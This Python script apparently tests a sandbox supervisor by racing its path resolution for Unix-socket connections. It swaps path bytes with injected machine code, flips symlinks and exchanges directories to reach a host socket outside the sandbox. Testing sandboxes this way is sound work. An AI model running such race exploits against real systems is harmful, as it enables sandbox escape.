"""A path to a socket changes while the supervisor resolves it.

attacks: connect to AF_UNIX, resolved in the caller's root
effect: the host's server accepts
refused: EACCES, ECONNREFUSED, ENOENT, EPERM
topic: notify races, paths and symbolic links
"""

import ctypes
import os
import socket
import threading
import time

from kit import how, inside, libc, machine_code, say, target

FLIP = b"\x48\x89\x37\xf3\x90\x48\x89\x17\xf3\x90\x83\x39\x00\x74\xf1\xc3"

here = "/tmp/race-%d" % os.getpid()
os.mkdir(here)
server = socket.socket(socket.AF_UNIX)
server.bind(here + "/own")
server.listen(128)
server.setblocking(False)
os.symlink(target["path"], here + "/far")
stopped = threading.Event()
name = ctypes.create_string_buffer(110)
stop = ctypes.c_uint32(0)


def flip_name():
    """The two names differ in eight bytes, which one store changes."""
    flip = machine_code(FLIP, None, ctypes.c_void_p, ctypes.c_uint64, ctypes.c_uint64, ctypes.c_void_p)
    values = [int.from_bytes(end, "little") for end in (b"/../own\0", b"/../far\0")]
    flip(ctypes.addressof(name) + 2 + len(path) - 7, values[0], values[1], ctypes.addressof(stop))


def flip_link():
    while not stopped.is_set():
        for destination in (here + "/own", target["path"]):
            os.symlink(destination, here + "/next")
            os.rename(here + "/next", here + "/link")


def flip_directory():
    os.mkdir(here + "/d")
    os.symlink("../own", here + "/d/s")
    os.mkdir(here + "/e")
    os.symlink(target["path"], here + "/e/s")
    while not stopped.is_set():
        libc.renameat2(-100, (here + "/d").encode(), -100, (here + "/e").encode(), 2)


if how == "name":
    os.mkdir(here + "/x")
    path = here + "/x/../own"
    work = flip_name
elif how == "link":
    os.symlink(here + "/own", here + "/link")
    path = here + "/link"
    work = flip_link
else:
    path = here + "/d/s"
    work = flip_directory
name[:] = (b"\x01\x00" + path.encode()).ljust(110, b"\0")
thread = threading.Thread(target=work)
thread.start()
deadline = time.monotonic() + target["seconds"]
tries = won = 0
while tries < (target["tries"] if inside else 5000) and time.monotonic() < deadline:
    tries += 1
    with socket.socket(socket.AF_UNIX) as s:
        s.setblocking(False)
        won += libc.connect(s.fileno(), name, 3 + len(path)) == 0
    try:
        server.accept()[0].close()
    except BlockingIOError:
        pass
stopped.set()
stop.value = 1
thread.join()
say(tries, "tries,", won, "connected")
say("refused EACCES")
